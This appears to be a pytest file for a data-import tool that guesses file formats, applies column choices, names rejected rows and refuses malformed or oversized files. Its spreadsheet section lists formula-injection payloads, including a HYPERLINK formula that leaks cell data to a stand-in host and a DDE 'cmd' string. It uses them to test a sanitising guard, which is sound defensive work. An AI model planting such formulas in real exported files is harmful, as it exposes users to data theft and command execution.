"""What a stranger's file is, guessed and chosen; its bad rows by number; and files made to do harm."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import polars as pl
import pytest

from serendip.data import sifting
from serendip.data.sifting import REJECTED, harmless, main, written


def sift(folder: Path, content: bytes | pl.DataFrame, name: str, **task: Any) -> dict[str, Any]:
    """The answer of a task; a choice without `kind` and `format` has them of its guess."""
    if isinstance(content, pl.DataFrame):
        content.write_parquet(folder / "file")
    else:
        (folder / "file").write_bytes(content)
    defaults = {"signals": {}, "first": False} if "choice" in task else {}
    (folder / "task.json").write_text(json.dumps({"name": name, **defaults, **task}))
    main(folder)
    answer: dict[str, Any] = json.loads((folder / "answer.json").read_text())
    return answer


def rejected(folder: Path) -> list[list[str]]:
    with (folder / REJECTED).open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


EVENTS = b"visitorid;product;event;timestamp\nann;tea;like;1700000000\nbo;cup;view;1700000060\n"
ITEMS = b"sku,name,genre,preis,colour\n1,Tea,hot|leaf,2.5,green\n2,Cup,,3,white\n"


# Guesses


def test_events_are_guessed(tmp_path: Path) -> None:
    found = sift(tmp_path, EVENTS, "log.csv")
    assert found["choice"]["kind"] == "events"
    assert found["choice"]["delimiter"] == ";"
    assert found["choice"]["columns"] == {"user": "visitorid", "item": "product", "type": "event", "time": "timestamp"}
    assert found["choice"]["time_unit"] == "s"
    assert found["sample"][0] == ["ann", "tea", "like", "1700000000"]


@pytest.mark.parametrize(
    ("number", "unit"), [("1700000000", "s"), ("1700000000000", "ms"), ("1700000000000000", "us"), ("17e17", "ns")]
)
def test_the_unit_of_times_is_guessed_and_read(tmp_path: Path, number: str, unit: str) -> None:
    content = f"user,item,time\nann,tea,{number}\n".encode()
    choice = sift(tmp_path, content, "log.csv")["choice"]
    assert choice["time_unit"] == unit
    sift(tmp_path, content, "log.csv", choice=choice)
    assert written(tmp_path).events["time_ms"].to_list() == [1_700_000_000_000]


def test_a_unit_that_was_chosen_goes_before_the_size(tmp_path: Path) -> None:
    content = b"user,item,time\nann,tea,86400000\nbo,tea,soon\n"  # the second day of 1970, in milliseconds
    columns = {"user": "user", "item": "item", "time": "time"}
    choice = {"kind": "events", "format": "csv", "columns": columns}
    sift(tmp_path, content, "log.csv", choice={**choice, "time_unit": "ms"})
    assert written(tmp_path).events["time_ms"].to_list() == [86_400_000]
    sift(tmp_path, content, "log.csv", choice=choice)
    assert written(tmp_path).events["time_ms"].to_list() == [86_400_000_000]


def test_times_in_words_need_no_unit(tmp_path: Path) -> None:
    content = b'{"user": "ann", "item": "tea", "time": "2024-01-01T00:00:00Z"}\n'
    choice = sift(tmp_path, content, "log.jsonl")["choice"]
    assert (choice["time_unit"], choice["format"]) == ("auto", "jsonl")
    sift(tmp_path, content, "log.jsonl", choice=choice)
    assert written(tmp_path).events["time_ms"].to_list() == [1_704_067_200_000]


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("stuff.csv", ITEMS, "items"),
        ("items-2024.csv", b"id,title\n1,Tea\n", "items"),
        ("users.csv", b"id,age\nann,30\n", "users"),
        ("x.csv", b"customer,age\nann,30\n", "users"),
        ("x.tsv", b"user\titem\nann\ttea\n", "events"),
    ],
)
def test_the_kind_is_guessed(tmp_path: Path, name: str, content: bytes, kind: str) -> None:
    assert sift(tmp_path, content, name)["choice"]["kind"] == kind


def test_a_kind_and_a_separator_that_are_told_are_no_guess(tmp_path: Path) -> None:
    found = sift(tmp_path, b"id|a,b\n1|2,3\n", "x.csv", kind="users", delimiter="|")
    assert (found["choice"]["kind"], found["headers"]) == ("users", ["id", "a,b"])


def test_only_the_beginning_of_a_long_file_is_guessed_from(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("serendip.data.readers.chosen.HEAD_BYTES", 60)
    found = sift(tmp_path, EVENTS + b"x;y;z;\xff broken\n" * 5, "log.csv")
    assert [row[0] for row in found["sample"]] == ["ann"]


def test_parquet_is_guessed_from_its_first_rows(tmp_path: Path) -> None:
    frame = pl.DataFrame({"user_id": ["ann"] * 50, "item_id": range(50), "rating": [4.5] * 50})
    found = sift(tmp_path, frame, "x.parquet")
    assert found["choice"]["columns"] == {"user": "user_id", "item": "item_id", "value": "rating"}
    assert len(found["sample"]) == 20


# Choices


def test_a_choice_is_read_and_nothing_else_is_guessed(tmp_path: Path) -> None:
    choice = {
        "kind": "items",
        "format": "csv",
        "columns": {"item_id": "sku", "price": "preis"},
        "leave_out": ["colour"],
    }
    answer = sift(tmp_path, ITEMS, "x.csv", choice=choice)
    assert (answer["rows"], answer["kept"], answer["refused"]) == (2, 2, 0)
    items = written(tmp_path).items
    assert items.columns == ["item_id", "name", "genre", "price"]
    assert items["price"].to_list() == [2.5, 3]
    assert items["name"].to_list() == ["Tea", "Cup"]


@pytest.mark.parametrize(
    ("columns", "leave_out", "said"),
    [
        ({}, [], "choose the column that holds the item id"),
        ({"item_id": "nothing"}, [], "has no column 'nothing' for the item_id"),
        ({"item_id": "sku", "colour": "colour"}, [], "items have no 'colour'"),
        ({"item_id": "sku", "title": "sku"}, [], "each part needs a column of its own"),
        ({"item_id": "sku"}, ["sku"], "the column 'sku' has a part and is left out"),
    ],
)
def test_a_choice_that_makes_no_sense_is_refused(
    tmp_path: Path, columns: dict[str, str], leave_out: list[str], said: str
) -> None:
    choice = {"kind": "items", "format": "csv", "columns": columns, "leave_out": leave_out}
    assert said in sift(tmp_path, ITEMS, "x.csv", choice=choice)["fault"]


def test_events_without_a_type_are_ratings_or_what_was_chosen(tmp_path: Path) -> None:
    content = b"user,item,stars\nann,tea,5\n"
    choice = {"kind": "events", "format": "csv", "columns": {"user": "user", "item": "item", "value": "stars"}}
    for more, type_ in (({}, "rating"), ({"event_type": "cart"}, "cart")):
        sift(tmp_path, content, "x.csv", choice={**choice, **more})
        assert written(tmp_path).events["type"].to_list() == [type_]


# Rows that cannot be used


def test_bad_rows_are_named_and_the_others_are_kept(tmp_path: Path) -> None:
    lines = [b"user,item,time,value", b"ann,tea,1700000000,1", b",tea,1,1", b"bo,tea,soon,1", b'cy,"two', b'lines",1,x']
    lines += [b"di,tea,1", b"ed,tea,1,1,1", b"fy," + b"x" * 300 + b",1,1", b"ann,cup,1700000000,2"]
    columns = {"user": "user", "item": "item", "time": "time", "value": "value"}
    choice = {"kind": "events", "format": "csv", "columns": columns}
    answer = sift(tmp_path, b"\n".join(lines), "x.csv", choice=choice)
    assert (answer["rows"], answer["kept"], answer["refused"]) == (8, 2, 6)
    assert [(row["row"], row["why"]) for row in answer["first_refused"]] == [
        (3, "the user id is missing"),
        (4, "'soon' is not a time (RFC 3339 text, epoch seconds or milliseconds)"),
        (5, "the value 'x' is not a number"),
        (7, "it has 3 fields, 4 fields are expected"),
        (8, "it has 5 fields, 4 fields are expected"),
        (9, "the item id is longer than 256 bytes"),
    ]
    assert [row[0] for row in rejected(tmp_path)] == ["row", "3", "4", "5", "7", "8", "9"]
    assert rejected(tmp_path)[1] == ["3", "the user id is missing", "", "tea", "1", "1"]
    assert {one["name"]: one["level"] for one in answer["findings"]}["rows"] == "WARN"


def test_broken_json_lines_are_named(tmp_path: Path) -> None:
    content = b'{"user": "ann", "item": "tea"}\n\nno json\n[1]\n{"user": "bo", "item": null}\n'
    choice = {"kind": "events", "format": "jsonl", "columns": {"user": "user", "item": "item"}}
    answer = sift(tmp_path, content, "x.jsonl", choice=choice)
    assert [(row["row"], row["why"]) for row in answer["first_refused"]] == [
        (3, "the line is not a JSON object"),
        (4, "the line is not a JSON object"),
        (5, "the item id is missing"),
    ]
    assert rejected(tmp_path)[1][2:] == ["no json", "", ""]


def test_rows_are_told_up_to_a_bound_and_counted_beyond(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("serendip.data.readers.raw.MOST_REFUSED", 3)
    choice = {"kind": "users", "format": "csv", "columns": {"user_id": "id"}}
    answer = sift(tmp_path, b"id,age\n" + b",1\n" * 10 + b"ann,2\n", "x.csv", choice=choice)
    assert (answer["refused"], answer["refused_told"], len(rejected(tmp_path))) == (10, 3, 4)


def test_a_file_without_a_usable_row_fails(tmp_path: Path) -> None:
    choice = {"kind": "users", "format": "csv", "columns": {"user_id": "id"}}
    answer = sift(tmp_path, b"id,age\n,1\n", "x.csv", choice=choice)
    assert answer["findings"][0] == {
        "level": "FAIL",
        "name": "rows",
        "detail": "0 of 1 rows can be imported; 1 cannot be used",
        "count": 1,
        "examples": [],
    }


def test_the_checks_are_those_that_a_file_alone_can_answer(tmp_path: Path) -> None:
    choice = {"kind": "events", "format": "csv", "columns": {"user": "visitorid", "item": "product"}}
    names = [one["name"] for one in sift(tmp_path, EVENTS, "x.csv", choice=choice)["findings"]]
    assert "times" in names
    assert not {"enough data", "unknown items"} & set(names)
    first = sift(tmp_path, EVENTS, "x.csv", choice=choice, first=True)["findings"]
    assert [one["level"] for one in first if one["name"] == "enough data"] == ["FAIL"]
    of_items = {"kind": "items", "format": "csv", "columns": {"item_id": "sku"}}
    assert [one["name"] for one in sift(tmp_path, ITEMS, "x.csv", choice=of_items)["findings"]] == [
        *("rows", "ids", "encoding")
    ]


# Spreadsheets

ATTACKS = [
    "=1+1",
    '=HYPERLINK("http://x.example?"&A1)',
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "＝1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_refused_cell_is_a_formula(tmp_path: Path, attack: str, monkeypatch: pytest.MonkeyPatch) -> None:
    frame = pl.DataFrame(
        {"id": [None, "ok"], attack: ["x", "y"], "note": [attack, ""]},
        schema={"id": pl.String, attack: pl.String, "note": pl.String},
    )
    choice = {"kind": "items", "format": "parquet", "columns": {"item_id": "id"}}

    def formulas() -> list[str]:
        sift(tmp_path, frame, "x.parquet", choice=choice)
        return [cell for row in rejected(tmp_path) for cell in row if cell.startswith(attack[0])]

    assert formulas() == []
    monkeypatch.setattr(sifting, "harmless", lambda cell: cell)
    assert formulas() == [attack, attack]  # with the guard off a spreadsheet would run it


@pytest.mark.parametrize("cell", ["-5", "+4.5", "1e-3", "-1,000.5", "a=b", "", "x@y.example", "-5e10"])
def test_numbers_and_plain_texts_stay_as_they_are(cell: str) -> None:
    assert harmless(cell) == cell


# Files made to do harm


def test_more_rows_than_are_taken_are_refused_unread(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    frame = pl.DataFrame({"user": ["ann"] * 1_000, "item": ["tea"] * 1_000})
    choice = {"kind": "events", "format": "parquet", "columns": {"user": "user", "item": "item"}}
    monkeypatch.setattr(sifting, "MOST_ROWS", 999)
    read: list[object] = []
    with monkeypatch.context() as patch:
        patch.setattr(sifting, "parsed", lambda *_: read.append(1))
        assert "has 1,000 rows; here are at most 999" in sift(tmp_path, frame, "x.parquet", choice=choice)["fault"]
    assert not read
    monkeypatch.setattr(sifting, "MOST_ROWS", 1_000)
    assert sift(tmp_path, frame, "x.parquet", choice=choice)["kept"] == 1_000


def test_a_long_text_many_times_over_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sifting, "MOST_TEXT", 1_000_000)
    frame = pl.DataFrame({"id": [f"i{n}" for n in range(1_000)], "text": ["x" * 10_000] * 1_000})
    choice = {"kind": "items", "format": "parquet", "columns": {"item_id": "id"}}
    assert "more than 1,000,000 bytes of text" in sift(tmp_path, frame, "x.parquet", choice=choice)["fault"]
    assert (tmp_path / "file").stat().st_size < 100_000


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("x.csv", b"", "is empty"),
        ("x.csv", b"\xff\xfe\x00", "is not UTF-8 text"),
        ("x.parquet", b"PAR1 nothing", "is not a readable Parquet file"),
        ("x.exe", b"MZ", "is of a kind that is not read here"),
        ("x", b"a,b", "is of a kind that is not read here"),
        ("x.csv", ",".join(f"c{n}" for n in range(300)).encode() + b"\n", "there may be 200"),
    ],
)
def test_what_is_no_table_is_said(tmp_path: Path, name: str, content: bytes, said: str) -> None:
    assert said in sift(tmp_path, content, name)["fault"]
